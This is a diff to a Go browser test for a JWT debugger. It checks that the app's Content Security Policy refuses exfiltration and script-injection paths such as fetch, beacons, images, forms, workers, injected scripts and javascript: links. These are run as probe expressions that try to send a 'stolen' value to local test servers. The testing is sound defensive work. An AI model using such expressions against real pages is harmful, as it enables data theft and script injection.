@@ -10,6 +10,7 @@ import (
 	"github.com/go-jose/go-jose/v4"
 
 	"jwtdebugger/e2e/drive"
+	"jwtdebugger/web/bundle"
 )
 
 // kept is everything a page could leave behind.
@@ -89,26 +90,27 @@ func TestLeaving(t *testing.T) {
 }
 
 // A probe is a way out of the page, or a way in for code. Its expression gives "refused", or
-// says what happened. What starts with /probe is looked for in the server's log.
+// says what happened. What starts with /probe is looked for in the log of the server, which
+// is home.
 type probe struct{ name, expression string }
 
 var probes = []probe{
-	{"fetch", `fetch("/probe-fetch?" + stolen).then(() => "sent", () => "refused")`},
-	{"fetch without cors", `fetch("/probe-nocors", {mode: "no-cors", keepalive: true}).then(() => "sent", () => "refused")`},
+	{"fetch", `fetch(home + "/probe-fetch?" + stolen).then(() => "sent", () => "refused")`},
+	{"fetch without cors", `fetch(home + "/probe-nocors", {mode: "no-cors", keepalive: true}).then(() => "sent", () => "refused")`},
 	{"XMLHttpRequest", `new Promise((done) => {
 		const x = new XMLHttpRequest();
 		x.onload = () => done("sent"); x.onerror = () => done("refused");
-		try { x.open("GET", "/probe-xhr"); x.send(); } catch { done("refused"); }
+		try { x.open("GET", home + "/probe-xhr"); x.send(); } catch { done("refused"); }
 	})`},
 	{"WebSocket", `new Promise((done) => {
 		try {
-			const s = new WebSocket(location.origin.replace("http", "ws") + "/probe-socket");
+			const s = new WebSocket(home.replace("http", "ws") + "/probe-socket");
 			s.onopen = () => done("open"); s.onerror = () => done("refused");
 		} catch { done("refused"); }
 	})`},
 	{"EventSource", `new Promise((done) => {
 		try {
-			const s = new EventSource("/probe-events");
+			const s = new EventSource(home + "/probe-events");
 			s.onopen = () => { s.close(); done("open"); }; s.onerror = () => { s.close(); done("refused"); };
 		} catch { done("refused"); }
 	})`},
@@ -120,23 +122,23 @@ var probes = []probe{
 		try { setTimeout("globalThis.ranByTimer = true", 0); } catch {}
 		setTimeout(() => setTimeout(() => done(globalThis.ranByTimer ? "ran" : "refused"), 0), 0);
 	})`},
-	{"import()", `import("/probe-import.js").then(() => "ran", () => "refused")`},
+	{"import()", `import(home + "/probe-import.js").then(() => "ran", () => "refused")`},
 	{"import() of data", `import("data:text/javascript,globalThis.ran=1").then(() => "ran", () => "refused")`},
-	{"a worker", `(() => { try { new Worker("/probe-worker.js"); return "started"; } catch { return "refused"; } })()`},
+	{"a worker", `(() => { try { new Worker(home + "/probe-worker.js"); return "started"; } catch { return "refused"; } })()`},
 	{"a worker of a blob", `(() => { try { new Worker(URL.createObjectURL(new Blob(["fetch('/probe-blob')"]))); return "started"; } catch { return "refused"; } })()`},
 	{"a policy by the page's name", `(() => { try { trustedTypes.createPolicy("jwtdebugger", {createScriptURL: (s) => s}); return "made"; } catch { return "refused"; } })()`},
 	{"a policy by another name", `(() => { try { trustedTypes.createPolicy("other", {createScriptURL: (s) => s}); return "made"; } catch { return "refused"; } })()`},
 }
 
 var pageProbes = []probe{
-	{"a beacon", `navigator.sendBeacon("/probe-beacon", stolen) ? "refused" : "refused"`}, // it always claims to be queued: the log decides
-	{"an image", `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = "/probe-image?" + stolen; })`},
-	{"a frame", `(() => { const f = document.createElement("iframe"); f.src = "/probe-frame"; document.body.append(f); f.remove(); return "refused"; })()`},
+	{"a beacon", `navigator.sendBeacon(home + "/probe-beacon", stolen) ? "refused" : "refused"`}, // it always claims to be queued: the log decides
+	{"an image", `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = home + "/probe-image?" + stolen; })`},
+	{"a frame", `(() => { const f = document.createElement("iframe"); f.src = home + "/probe-frame"; document.body.append(f); f.remove(); return "refused"; })()`},
 	{"innerHTML", `(() => { try { document.createElement("div").innerHTML = "<b>x</b>"; return "written"; } catch { return "refused"; } })()`},
 	{"document.write", `(() => { try { document.write("<b>x</b>"); return "written"; } catch { return "refused"; } })()`},
 	{"insertAdjacentHTML", `(() => { try { document.body.insertAdjacentHTML("beforeend", "<i></i>"); return "written"; } catch { return "refused"; } })()`},
 	{"a script's text", `(() => { try { const s = document.createElement("script"); s.text = "globalThis.ranScript = 1"; document.body.append(s); s.remove(); return globalThis.ranScript ? "ran" : "refused"; } catch { return "refused"; } })()`},
-	{"a script's address", `(() => { try { const s = document.createElement("script"); s.src = "/probe-script.js"; document.body.append(s); s.remove(); return "added"; } catch { return "refused"; } })()`},
+	{"a script's address", `(() => { try { const s = document.createElement("script"); s.src = home + "/probe-script.js"; document.body.append(s); s.remove(); return "added"; } catch { return "refused"; } })()`},
 	{"a handler in an attribute", `(() => { const b = document.createElement("button"); try { b.setAttribute("onclick", "globalThis.ranHandler = 1"); } catch {} b.click(); return globalThis.ranHandler ? "ran" : "refused"; })()`},
 	{"an address that is a script", `new Promise((done) => {
 		const a = document.createElement("a"); a.href = "javascript:globalThis.ranLink=1"; document.body.append(a);
@@ -148,22 +150,29 @@ var pageProbes = []probe{
 	{"a rule with an address", `(() => { const d = document.createElement("div"); d.style.backgroundImage = "url(/probe-background.png)"; document.body.append(d); getComputedStyle(d).backgroundImage; d.offsetWidth; d.remove(); return "refused"; })()`},
 	{"a form", `new Promise((done) => {
 		document.addEventListener("securitypolicyviolation", (e) => { if (e.effectiveDirective === "form-action") done("refused"); });
-		const f = document.createElement("form"); f.action = "/probe-form"; document.body.append(f); f.submit(); f.remove();
+		const f = document.createElement("form"); f.action = home + "/probe-form"; document.body.append(f); f.submit(); f.remove();
 	})`},
-	{"a preload", `(() => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.href = "/probe-preload"; document.head.append(l); l.remove(); return "refused"; })()`},
+	{"a preload", `(() => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.href = home + "/probe-preload"; document.head.append(l); l.remove(); return "refused"; })()`},
 	{"a prefetch elsewhere", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = elsewhere + "/probe-prefetch"; document.head.append(l); return "refused"; })()`},
 	{"a style sheet elsewhere", `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onerror = () => done("refused"); l.onload = () => done("loaded"); l.href = elsewhere + "/probe-sheet.css"; document.head.append(l); })`},
 	{"an image elsewhere", `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = elsewhere + "/probe-image?" + stolen; })`},
 	{"a beacon elsewhere", `(() => { navigator.sendBeacon(elsewhere + "/probe-beacon", stolen); return "refused"; })()`},
 	{"a base", `(() => { const b = document.createElement("base"); b.href = "https://other.example/"; document.head.append(b); const moved = !document.baseURI.startsWith(location.origin); b.remove(); return moved ? "moved" : "refused"; })()`},
-	{"sound", `new Promise((done) => { const a = new Audio("/probe-sound"); a.onerror = () => done("refused"); a.oncanplay = () => done("sent"); })`},
+	{"sound", `new Promise((done) => { const a = new Audio(home + "/probe-sound"); a.onerror = () => done("refused"); a.oncanplay = () => done("sent"); })`},
 	{"a font", `new FontFace("probe", "url(/probe-font)").load().then(() => "sent", () => "refused")`},
-	{"a service worker", `navigator.serviceWorker.register("/probe-service.js").then(() => "registered", () => "refused")`},
+	{"a service worker", `navigator.serviceWorker.register(home + "/probe-service.js").then(() => "registered", () => "refused")`},
 }
 
 var workerProbes = []probe{
-	{"importScripts", `(() => { try { importScripts("/probe-scripts.js"); return "ran"; } catch { return "refused"; } })()`},
+	{"importScripts", `(() => { try { importScripts(home + "/probe-scripts.js"); return "ran"; } catch { return "refused"; } })()`},
 	{"importScripts of a blob", `(() => { try { importScripts(URL.createObjectURL(new Blob(["self.ran = 1"]))); return "ran"; } catch { return "refused"; } })()`},
+}
+
+// A script in the page may still ask the page's own host for these, of which style-src and
+// worker-src say 'self'. In the single file nobody may be asked for anything.
+var singleProbes = []probe{
+	{"a style sheet", `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onerror = () => done("refused"); l.onload = () => done("loaded"); l.href = home + "/probe-sheet.css"; document.head.append(l); })`},
+	{"a prefetch", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = home + "/probe-prefetch"; document.head.append(l); return "refused"; })()`},
 }
 
 // hosts are the two ways to be served: with the headers that ship, and as files on a host
@@ -173,39 +182,51 @@ var hosts = map[string]func(*testing.T) http.Handler{
 	"without headers": func(t *testing.T) http.Handler { return drive.Plain(http.FS(files(t))) },
 }
 
-// TestPolicyHolds tries every way out, in the page and in the engine's worker. Two ways stay
-// open to a script that already runs in the page, and lead only to the host that it came
-// from: a style sheet and a prefetch, since style-src and worker-src say 'self'. No policy
-// stops a navigation.
+// TestPolicyHolds tries every way out, in the page and in the engine's worker: of the page on
+// a host, and of the single file on a host and on a disk. No policy stops a navigation.
 func TestPolicyHolds(t *testing.T) {
 	t.Parallel()
-	for name, handler := range hosts {
-		t.Run(name, func(t *testing.T) {
+	for _, place := range []struct {
+		name, host string
+		single     bool
+		address    func(*testing.T) string
+	}{
+		{"the page, with headers", "with headers", false, func(*testing.T) string { return "/" }},
+		{"the page, without headers", "without headers", false, func(*testing.T) string { return "/" }},
+		{"the single file, with headers", "with headers", true, func(*testing.T) string { return "/" + bundle.SingleName }},
+		{"the single file, without headers", "without headers", true, func(*testing.T) string { return "/" + bundle.SingleName }},
+		{"the single file, from a disk", "without headers", true, func(t *testing.T) string { return onDisk(t, nil) }},
+	} {
+		t.Run(place.name, func(t *testing.T) {
 			t.Parallel()
-			page, site := tab(t, handler(t), drive.Setup{})
-			page.Open()
-			page.WaitWorker(1)
+			page, site := tab(t, hosts[place.host](t), drive.Setup{})
+			page.Visit(place.address(t))
+			page.Ready()
+			inPage := append(append([]probe{}, probes...), pageProbes...)
+			workers := 1
+			if place.single {
+				inPage = append(inPage, singleProbes...)
+				workers = 2 // its loader is made of a blob, too
+			}
+			page.WaitWorker(workers)
 			// What the browser says about each refusal, and its own list of requests, which
 			// holds those that it refused. What got out is in the site's log.
 			page.Expect("Content Security Policy", "violates the following", "Trusted", "/probe", "Refused", "blocked by CSP")
 			engine := page.Engine()
-			for _, w := range page.Workers() {
-				if !w.Engine() && w.Alive() {
-					t.Errorf("The loader, which may fetch, is still there: %s", w.URL)
-				}
+			if loader := page.Workers()[0]; loader.Alive() {
+				t.Errorf("The loader, which may fetch, is still there: %s", loader.URL)
 			}
 			elsewhere := drive.Serve(t, http.NotFoundHandler())
-			loot := `globalThis.stolen = "secret"; globalThis.elsewhere = ` + quoted(elsewhere.URL) + `; 1`
+			loot := `globalThis.stolen = "secret"; globalThis.home = ` + quoted(site.URL) + `; globalThis.elsewhere = ` + quoted(elsewhere.URL) + `; 1`
 			drive.Eval[any](page, loot)
 			drive.EvalIn[any](engine, loot)
-			for _, p := range append(append([]probe{}, probes...), pageProbes...) {
+			for _, p := range inPage {
 				if got := drive.Eval[string](page, p.expression); got != "refused" {
 					t.Errorf("In the page, %s: %s", p.name, got)
 				}
 			}
 			for _, p := range append(append([]probe{}, probes...), workerProbes...) {
-				// A blob has no origin to resolve an address against.
-				if got := drive.EvalIn[string](engine, strings.ReplaceAll(p.expression, `"/probe`, `location.origin + "/probe`)); got != "refused" {
+				if got := drive.EvalIn[string](engine, p.expression); got != "refused" {
 					t.Errorf("In the engine's worker, %s: %s", p.name, got)
 				}
 			}
